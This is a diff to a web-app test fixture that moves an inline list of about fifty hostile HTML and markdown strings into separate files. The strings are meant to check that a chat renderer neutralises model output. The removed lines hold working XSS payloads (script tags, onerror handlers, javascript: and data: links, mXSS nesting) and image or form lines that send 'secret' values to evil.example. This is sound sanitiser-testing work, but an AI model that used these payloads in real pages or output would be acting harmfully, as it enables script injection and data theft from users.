@@ -1,55 +1,8 @@
 /**
- * What a hostile model could write: each would run, fetch or mislead in a page that made HTML of it. For tests, here and
- * end to end; `evil.example` must never be asked for anything.
+ * What a hostile model could write: each would run, fetch or mislead in a page that made HTML of it. For tests, here and end to
+ * end, where each is streamed into the real page letter by letter (`e2e/hostileMarkup.spec.ts`).
  */
-export const hostileMarkup: readonly string[] = [
-  "<script>window.pwned=1</script>",
-  '<img src=x onerror="window.pwned=1">',
-  '<svg onload="window.pwned=1"><use href="https://evil.example/x.svg#a"/></svg>',
-  '<iframe src="https://evil.example/"></iframe>',
-  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
-  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
-  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=preload as=image href="https://evil.example/p">',
-  "<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/y)}</style>",
-  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
-  '<base href="https://evil.example/">',
-  '<form action="https://evil.example/"><input name=q><button>Send</button></form>',
-  '<video poster="https://evil.example/p" src="https://evil.example/v" autoplay></video>',
-  '<picture><source srcset="https://evil.example/s 1x"><img srcset="https://evil.example/t 2x"></picture>',
-  "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>",
-  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
-  '<details open ontoggle="window.pwned=1">',
-  '<a href="javascript:window.pwned=1">press</a>',
-  "<!--><img src=x onerror=window.pwned=1>-->",
-  "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
-  "[press](javascript:window.pwned=1)",
-  "[press](JaVaScRiPt:window.pwned=1)",
-  "[press](java\tscript:window.pwned=1)",
-  "[press](&#106;avascript:window.pwned=1)",
-  "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
-  "[press](vbscript:msgbox)",
-  "[press](//evil.example/x)",
-  "[press](https://bank.example@evil.example/)",
-  '[press][ref]\n\n[ref]: javascript:window.pwned=1 "title"',
-  "<javascript:window.pwned=1>",
-  "![pixel](https://evil.example/p?secret=1)",
-  "![pixel][img]\n\n[img]: https://evil.example/p?secret=2",
-  '![pixel](https://evil.example/p "x" onerror=window.pwned=1)',
-  "[![pixel](https://evil.example/p)](https://evil.example/)",
-  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-  "| a | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | ![p](https://evil.example/p) |",
-  "# <img src=x onerror=window.pwned=1>",
-  "- <svg/onload=window.pwned=1>\n  - ![p](https://evil.example/p)",
-  "> <script>window.pwned=1</script>",
-  "```html\n<script>window.pwned=1</script>\n```",
-  '```" onmouseover="window.pwned=1\n<b>\n```',
-  "`<img src=x onerror=window.pwned=1>`",
-  "&lt;img src=x onerror=window.pwned=1&gt;",
-  "&#60;script&#62;window.pwned=1&#60;/script&#62;",
-  "__proto__ [x](constructor) [y](__proto__)",
-  "[a]: https://evil.example/a\n[__proto__]: https://evil.example/b\n\n[a] [__proto__] [constructor]",
-  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">window.pwned=1</x:script>',
-  "\u202Egnp.exe [safe](https://evil.example/\u202Egnp.html)",
-  "https://evil.example/auto www.evil.example someone@evil.example",
-  "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
-];
+import { markdownAttacks } from "./hostile/markdown.ts";
+import { tags } from "./hostile/tags.ts";
+
+export const hostileMarkup: readonly string[] = [...tags, ...markdownAttacks];
